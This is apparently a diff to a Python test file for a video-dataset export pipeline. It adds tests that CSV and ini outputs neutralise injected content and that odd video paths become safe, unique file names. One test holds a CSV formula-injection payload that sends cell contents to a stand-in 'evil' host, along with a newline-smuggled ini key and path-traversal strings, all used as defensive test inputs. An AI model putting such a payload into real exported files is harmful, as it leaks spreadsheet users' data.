@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import tracemalloc
 from collections import Counter
@@ -12,7 +13,7 @@ import pyarrow as pa
 import pytest
 
 from pipelines.archive.answers import ANSWERS
-from pipelines.archive.export import by_video, export, files_of
+from pipelines.archive.export import by_video, export, file_names, files_of
 from pipelines.core import storage
 from pipelines.core.results import Results
 from spacevllm.data.instance import Instance, instance_id
@@ -104,6 +105,43 @@ def test_mot_of_a_video_named_100_percent(tmp_path, rows, fps, written):
     assert f"\nframeRate={written}\n" in (folder / "seqinfo.ini").read_text()
     [found] = read("mot", SourceFiles(folder, "train", questions=folder / "questions.csv"))
     assert isinstance(found, Instance) and found.media == "media/100%(of).mp4" and found.fps == pytest.approx(fps)
+
+
+def test_mot_files_carry_nothing_into_a_spreadsheet_or_an_ini_file(tmp_path):
+    """A formula as a question, a key in a video's name; both come back as they were, but for the line end."""
+    formula, name = '=HYPERLINK("http://evil/?"&A1,"click")', "/a/clip\nframeRate=1\x85.mp4"
+    parts, asked = Results(str(tmp_path / "tubes")), row(name, formula)
+    parts.write(pa.Table.from_pylist([asked], schema=ANSWERS))
+    export(parts, {asked["id"]: "f"}, str(tmp_path), ("mot", "cvat"))
+    [folder] = (tmp_path / "exports/mot").iterdir()
+    with (folder / "questions.csv").open(newline="") as file:
+        assert list(csv.reader(file))[1][1] == f"'{formula}"
+    assert (folder / "seqinfo.ini").read_text().splitlines().count("frameRate=8") == 1
+    [found] = read("mot", SourceFiles(folder, "train", questions=folder / "questions.csv"))
+    assert found.question == formula and found.media == "media/clip frameRate=1 .mp4" and found.fps == 8
+
+
+def test_a_name_for_each_video_inside_the_folder():
+    odd = [
+        "s3://b/a/..",
+        "s3://b/./.",
+        "s3://b/.hidden.mp4",
+        f"/a/{'x' * 250}.mp4",
+        "http://h/?v=1",
+        "s3://b/nul\0.mp4",
+    ]
+    plain = {
+        "/a/what?.mp4": "what?.mp4",
+        "s3://b/what?.mp4": f"what?-{instance_id('s3://b/what?.mp4')[:8]}.mp4",
+        "https://h/clip.mp4?token=/x/y": "clip.mp4",
+        "/a/a.mp4": "a.mp4",
+    }
+    plain["/a/what?.mp4"] = f"what?-{instance_id('/a/what?.mp4')[:8]}.mp4"
+    taken = "/c/" + plain["/a/what?.mp4"]  # what another video's name became
+    names = file_names([*odd, *plain, taken])
+    assert len(set(names.values())) == len(names)
+    assert all("/" not in name and not name.startswith(".") and len(name) < 250 for name in names.values())
+    assert {video: names[video] for video in list(plain)[1:]} == dict(list(plain.items())[1:])
 
 
 def test_jsonl_has_every_answer_and_its_reason(out, rows):
